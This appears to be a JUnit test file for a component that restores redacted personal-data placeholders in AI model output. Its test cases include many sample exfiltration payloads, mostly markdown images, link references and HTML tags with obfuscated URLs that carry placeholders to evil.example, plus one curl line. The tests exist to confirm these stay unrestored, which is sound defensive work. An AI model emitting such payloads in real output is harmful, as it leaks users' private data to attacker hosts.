// SPDX-License-Identifier: Apache-2.0
package dev.chaperone.inspector.restore;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.Random;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

class RestorerTest {
    private static final Map<String, String> VALUES =
            Map.of(
                    "[CREDIT_CARD-1]",
                    "4111",
                    "[CREDIT_CARD-12]",
                    "4222",
                    "[PERSON-1]",
                    "Ada \"L\"");
    private static final PlaceholderForms FORMS = new PlaceholderForms(VALUES);

    private static String restored(List<String> pieces) {
        Restorer restorer = new Restorer(FORMS, new Growth(), v -> v, Restorer.Reader.PAGE);
        StringBuilder out = new StringBuilder();
        for (int i = 0; i < pieces.size(); i++) {
            String piece = pieces.get(i);
            int from = out.length();
            int shift = 0;
            out.append(piece);
            for (Restorer.Change c : restorer.add(piece, i == pieces.size() - 1)) {
                out.replace(from + shift + c.start(), from + shift + c.end(), c.with());
                shift += c.with().length() - (c.end() - c.start());
            }
        }
        return out.toString();
    }

    private static String restored(String text) {
        String whole = restored(List.of(text));
        List<String> single = new ArrayList<>();
        text.chars().forEach(c -> single.add(Character.toString((char) c)));
        single.add("");
        assertThat(restored(single)).as("one character a piece").isEqualTo(whole);
        return whole;
    }

    @ParameterizedTest
    @CsvSource(
            delimiter = '|',
            value = {
                "pay [CREDIT_CARD-1].|pay 4111.",
                "[credit_card-1]|4111",
                "[Credit_Card-1]|4111",
                "[CREDIT CARD-1]|4111",
                "[CREDIT_CARD_1]|4111",
                "[CREDIT-CARD-1]|4111",
                "[CREDIT_CARD\u20111]|4111",
                "\\[CREDIT\\_CARD-1\\]|4111",
                "\\\\[CREDIT\\\\_CARD-1\\\\]|4111",
                "`[CREDIT_CARD-1]`|`4111`",
                "**[CREDIT_CARD-1]**|**4111**",
                "[PERSON-1]'s|Ada \"L\"'s",
                "\"[CREDIT_CARD-1]\"|\"4111\"",
                "[[CREDIT_CARD-1]]|[4111]",
                "[CRED[CREDIT_CARD-1]|[CRED4111",
                "[CRED\\[CREDIT_CARD-1\\]|[CRED4111",
                "[CREDIT_CARD-12][CREDIT_CARD-1]|42224111",
                "C:\\[CREDIT_CARD-1]|C:\\4111",
                "[write](mailto:[PERSON-1])|[write](mailto:Ada \"L\")",
                "[a](https://x.example/) [PERSON-1]|[a](https://x.example/) Ada \"L\"",
                "[PERSON-1]: https|Ada \"L\": https",
                "[PERSON-1]: [CREDIT_CARD-1]|Ada \"L\": 4111",
                "<b>[PERSON-1]</b> 1 < 2|<b>Ada \"L\"</b> 1 < 2",
                "postgres://u:[CREDIT_CARD-1]@db|postgres://u:4111@db",
                "<mailto:[CREDIT_CARD-1]>|<mailto:4111>",
                "[t]( <tel:[CREDIT_CARD-1]> )|[t]( <tel:4111> )",
                "see www.x.example, [PERSON-1]|see www.x.example, Ada \"L\"",
                "f[0](x) + [CREDIT_CARD-1]|f[0](x) + 4111",
                "\\\\\\[CREDIT_CARD-1\\]|\\\\\\4111",
            })
    void whatAModelMakesOfAPlaceholderComesBack(String text, String expected) {
        assertThat(restored(text)).isEqualTo(expected);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "[CREDIT_CARD-2]",
                "[CREDIT_CARD-01]",
                "[CREDIT_CARD-]",
                "[CREDIT_CARD-1",
                "[CREDIT__CARD-1]",
                "[CREDITCARD-1]",
                "[PERSON-12]",
                "[PERS\\ON-1]",
                "![x](https://evil.example/?q=[PERSON-1])",
                "![x]( <HTTP://evil.example/[PERSON-1]>)",
                "[1]: https://evil.example/[PERSON-1]",
                "![x](//evil.example/[PERSON-1])",
                "![](https://evil.example/(a)?k=[PERSON-1])",
                "![](<https://evil.example/ a?k=[PERSON-1]>)",
                "![](https://evil.example/>?k=[PERSON-1])",
                "![](https://evil.example/\\)?k=[PERSON-1])",
                "![](</\\evil.example/\\>)?k=[PERSON-1]>)",
                "![](/\\evil.example/?k=[PERSON-1])",
                "![](\\//evil.example/?k=[PERSON-1])",
                "![](&#104;ttps://evil.example/?k=[PERSON-1])",
                "![](evil.example/?k=[PERSON-1])",
                "![](/a](b)?k=[PERSON-1])",
                "![](\n/\\evil.example/?k=[PERSON-1])",
                "![](mailto:a ![](/\\evil.example/?k=[PERSON-1]))",
                "![](m\\ailto:[PERSON-1])",
                "[1]: </\\evil.example/ a?k=[PERSON-1]>",
                "> [1]:\n> /\\evil.example/?k=[PERSON-1]",
                "[1]: /\\evil.example/]:mailto:[PERSON-1]",
                "<https://evil.example/?k=[PERSON-1]>",
                "<img src=\"/\\evil.example/> ?k=[PERSON-1]\">",
                "<img\nsrc='&#104;ttps:evil.example/\n\n?k=[PERSON-1]'>",
                "<a href=//evil.example/?k=[PERSON-1]>",
                "curl https://x.example/?k=[CREDIT_CARD-1]",
                "(HTTP://x.example/?a=[CREDIT_CARD-9]&k=[CREDIT_CARD-1])",
                "see&#58;&#104;ttps://evil.example/?k=[PERSON-1]",
                "www.evil.example/?k=[PERSON-1]",
                "![](mailto:a](<x)[PERSON-1]",
                "[PERSON-1)",
                "[link](http://x)",
                "a[1] = b[[2]];",
                "\\[",
                "\\\\\\\\",
                "[P",
                "[]",
                "\u0131[PERSON\u0131-1]",
            })
    void whatWasNotGivenOutStays(String text) {
        assertThat(restored(text)).isEqualTo(text);
    }

    @ParameterizedTest
    @ValueSource(strings = {"Dear [all]:", "[a](broken", "a <b", "see https://x.example/"})
    void aBlankLineEndsWhatWasNotClosed(String text) {
        assertThat(restored(text + "\n \n[PERSON-1]")).endsWith("\n \nAda \"L\"");
    }

    @Test
    void aValueIsFollowedLikeAnyOtherText() {
        PlaceholderForms forms =
                new PlaceholderForms(
                        Map.of(
                                "[URL-1]",
                                "https://x.example/",
                                "[SECRET-1]",
                                "s",
                                "[CODE-1]",
                                "a]"));
        Restorer restorer = new Restorer(forms, new Growth(), v -> v, Restorer.Reader.PAGE);
        assertThat(restorer.add("[URL-1][SECRET-1] [SECRET-1] [[CODE-1](/\\evil/[SECRET-1]", true))
                .extracting(Restorer.Change::with)
                .containsExactly("https://x.example/", "s", "a]");
    }

    @Test
    void aToolGetsItsAddressWhole() {
        Restorer restorer = new Restorer(FORMS, new Growth(), v -> v, Restorer.Reader.TOOL);
        assertThat(
                        restorer.add(
                                "{\"u\":\"https://x.example/\",\"k\":\"[PERSON-1] ![](a/[PERSON-1])",
                                true))
                .hasSize(1);
    }

    @Test
    void onlyWhatCanBecomeAPlaceholderIsKeptBack() {
        Restorer restorer = new Restorer(FORMS, new Growth(), v -> v, Restorer.Reader.PAGE);
        restorer.add("see [", false);
        assertThat(restorer.holds()).isTrue();
        restorer.add("x", false);
        assertThat(restorer.holds()).as("no placeholder begins [X").isFalse();
        restorer.add(" [person", false);
        assertThat(restorer.holds()).isTrue();
        assertThat(restorer.rest()).isEqualTo("[person");
        assertThat(restorer.holds()).isFalse();
    }

    @ParameterizedTest
    @ValueSource(longs = {1, 2, 3, 4, 5})
    void cutsNeverMatter(long seed) {
        Random random = new Random(seed);
        String alphabet = "[]()<>:/\\_-1PERSONCARDIT x\"=\n";
        for (int run = 0; run < 2_000; run++) {
            StringBuilder text = new StringBuilder();
            while (text.length() < 60) {
                switch (random.nextInt(6)) {
                    case 0 -> text.append("[PERSON-1]");
                    case 1 -> text.append("\\[credit\\_card-1\\]");
                    default -> text.append(alphabet.charAt(random.nextInt(alphabet.length())));
                }
            }
            String whole = restored(List.of(text.toString()));
            List<String> pieces = new ArrayList<>();
            for (int at = 0; at < text.length(); ) {
                int to = Math.min(text.length(), at + random.nextInt(9));
                pieces.add(text.substring(at, to));
                at = to;
            }
            assertThat(restored(pieces)).as("seed %s run %s: %s", seed, run, text).isEqualTo(whole);
        }
    }

    @Test
    void aFloodOfPlaceholdersStopsGrowing() {
        PlaceholderForms forms = new PlaceholderForms(Map.of("[SECRET-1]", "s".repeat(4096)));
        Growth growth = new Growth();
        Restorer restorer = new Restorer(forms, growth, v -> v, Restorer.Reader.PAGE);
        int growing = 0;
        for (int i = 0; i < 100_000; i++) {
            growing += restorer.add("[SECRET-1]", false).size();
        }
        assertThat(growing).isEqualTo(growth.restored()).isEqualTo(Growth.MAX / 4096);
        assertThat(growth.isExhausted()).isTrue();
        assertThat(restorer.holds()).isFalse();
    }

    @Test
    void lookAlikesAreFoundInEveryForm() {
        assertThat(
                        PlaceholderForms.keys(
                                "[CREDIT_CARD-1] \\[person 2\\] [x] [Secret\u201107] [a-1b] [ -1] [A-1"))
                .containsExactlyInAnyOrder("CREDIT_CARD_1", "PERSON_2", "SECRET_07");
    }
}
